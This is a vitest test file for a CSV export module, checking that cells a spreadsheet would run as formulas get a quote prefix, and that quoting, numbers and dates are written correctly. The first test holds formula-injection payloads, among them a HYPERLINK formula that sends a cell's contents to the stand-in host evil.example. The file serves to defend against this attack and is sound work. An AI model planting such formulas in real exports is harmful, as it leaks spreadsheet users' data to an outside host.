import { parseCsv } from "@strata/core";
import { describe, expect, it } from "vitest";
import { csvHeaderLine, neutraliseFormula, toCsv } from "./csv.js";

describe("toCsv", () => {
  it("prefixes a quote to cells a spreadsheet would run as a formula", () => {
    const csv = toCsv([
      ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
      ["@SUM(1)"],
      ["+1+cmd"],
      ["-2+3"],
      ["\t=1"],
      ["\r=1"],
      ["\uFF1D1+1"],
    ]);
    const cells = parseCsv(csv, { header: false }).records.map((r) => r.fields[0]);
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "'@SUM(1)",
      "'+1+cmd",
      "'-2+3",
      "'\t=1",
      "'\r=1",
      "'\uFF1D1+1",
    ]);
  });

  it("leaves plain numbers alone, whether they come as text or as numbers", () => {
    expect(toCsv([["-3", "-12.5", "+4", "-1e-3", ".5", -7, 0]])).toBe("-3,-12.5,+4,-1e-3,.5,-7,0\n");
  });

  it("quotes delimiters, quotes, line breaks and edge spaces, and writes dates as ISO 8601", () => {
    const csv = toCsv(
      [["a,b", 'say "hi"', "two\nlines", " padded ", new Date("2024-05-01T10:00:00Z"), null]],
      ["customer_id", "segment_set", "segment", "note", "assigned_at", "empty"],
    );
    expect(csv).toBe(
      "customer_id,segment_set,segment,note,assigned_at,empty\n" +
        '"a,b","say ""hi""","two\nlines"," padded ",2024-05-01T10:00:00.000Z,\n',
    );
  });

  it("writes a header line alone, and nothing for no records", () => {
    expect(csvHeaderLine(["line", "column", "value", "reason"])).toBe("line,column,value,reason\n");
    expect(toCsv([])).toBe("");
  });
});

describe("neutraliseFormula", () => {
  it("keeps text that starts with anything else as it is", () => {
    for (const text of ["C-1", "a=b", "", "'=1", " =1", "12-3"]) expect(neutraliseFormula(text)).toBe(text);
  });
});
